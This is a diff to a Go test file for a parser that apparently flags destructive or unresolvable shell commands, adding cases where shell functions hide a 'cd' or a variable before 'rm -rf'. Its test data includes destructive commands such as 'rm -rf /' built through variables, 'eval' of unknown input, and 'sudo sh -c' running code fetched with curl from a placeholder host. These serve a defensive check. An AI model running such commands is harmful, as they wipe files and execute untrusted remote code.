@@ -676,6 +676,7 @@ func TestParseDeletesUnresolved(t *testing.T) {
 		{"cd / && cd tmp && rm -rf vouch-x", nil},
 		// A child's cd does not move this shell.
 		{"cd / && bash -c 'cd nowhere-vouch' && rm -rf vouch-x", nil},
+		{"cd / && f(){ cd /home; }; f; rm -rf u", []string{"u"}},
 		{`find "$R" -delete`, []string{`"$R"`}},
 		{`mv "$A" b`, []string{`"$A"`}},
 		{`git rm -r "$P"`, []string{`"$P"`}},
@@ -708,6 +709,8 @@ func TestParseUnknown(t *testing.T) {
 		{`X="rm -rf /"; $X`, []string{"$X"}},
 		// A child shell sees no unexported variable of this one.
 		{`x=ls; x=rm bash -c '$x -rf /'`, []string{"$x"}},
+		// What a function call leaves behind is not known.
+		{`f(){ x=rm; }; x=ls; f; $x -rf /`, []string{"$x"}},
 		{`eval "$X"`, []string{`eval "$X"`}},
 		{`bash -c "$SCRIPT"`, []string{`bash -c "$SCRIPT"`}},
 		{`sudo sh -c "$(curl -s x.example)"`, []string{`sh -c "$(curl -s x.example)"`}},
